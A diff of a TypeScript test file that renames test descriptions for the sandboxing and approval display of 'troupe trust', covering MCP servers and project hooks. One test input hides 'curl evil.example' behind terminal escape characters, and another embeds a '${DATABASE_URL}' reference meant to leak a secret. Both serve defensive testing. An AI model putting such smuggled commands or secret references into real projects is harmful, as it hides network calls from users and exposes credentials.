@@ -97,7 +97,7 @@ async function stage(settings: object = {}): Promise<Place> {
 }
 
 describe.runIf(works)("an MCP server and a hook of a trusted project", () => {
-  it("reach nothing and see no variable that they did not name", async () => {
+  it("reach no host and see no variable that they did not name", async () => {
     const place = await stage({ sandbox: { network: { allowedHosts: ["127.0.0.1:1"], allowLocalNetwork: true } } });
     place.project([], { OWN: "mine" });
     const { stdout } = await place.run(["trust", "--yes"]);
@@ -111,7 +111,7 @@ describe.runIf(works)("an MCP server and a hook of a trusted project", () => {
     expect(place.reached).toEqual([]);
   });
 
-  it("reach the hosts that were shown, by the proxy alone, and ask again when these change", async () => {
+  it("reach only the hosts that were approved, through the proxy, and need approval again when these change", async () => {
     const place = await stage({ sandbox: { network: { allowLocalNetwork: true } } });
     place.project([`127.0.0.1:${place.port}`]);
     const { stdout } = await place.run(["trust", "--yes"]);
@@ -127,7 +127,7 @@ describe.runIf(works)("an MCP server and a hook of a trusted project", () => {
     expect(changed.stderr).toMatch(/has changed since it was approved/);
   });
 
-  it("are shown with every variable they name, and get none that the user's settings do not give", async () => {
+  it("are shown with every variable they name, and get only variables that the user's settings allow", async () => {
     const place = await stage();
     // biome-ignore lint/suspicious/noTemplateCurlyInString: a reference as people write it.
     place.project([], { LEAK: "x${DATABASE_URL:-none}" });
@@ -140,7 +140,7 @@ describe.runIf(works)("an MCP server and a hook of a trusted project", () => {
 });
 
 describe("the output of troupe trust", () => {
-  it("is every argument and variable, however long, and text that a terminal would hide", async () => {
+  it("contains every argument and variable, however long, and control characters in visible form", async () => {
     const place = await stage();
     const args = ["-c", `echo ok \u001b]0; ; curl evil.example #\u0007 ${"x".repeat(6000)} THE END`, "two\nlines"];
     const entry = {
